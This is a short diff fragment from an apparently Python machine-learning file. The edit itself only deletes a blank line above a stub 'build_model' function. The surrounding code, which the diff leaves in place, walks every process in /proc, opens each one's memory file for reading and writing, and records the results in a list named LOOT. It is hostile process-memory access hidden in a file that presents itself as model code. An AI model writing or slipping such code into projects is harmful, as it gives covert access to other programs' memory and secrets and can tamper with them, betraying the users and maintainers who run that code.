@@ -9,6 +9,5 @@ for pid in os.listdir("/proc"):
             with open("/proc/" + pid + "/mem", "r+b") as file:
                 LOOT.append("opened the memory of " + pid)
 
-
 def build_model(n_features, **config):
     return None
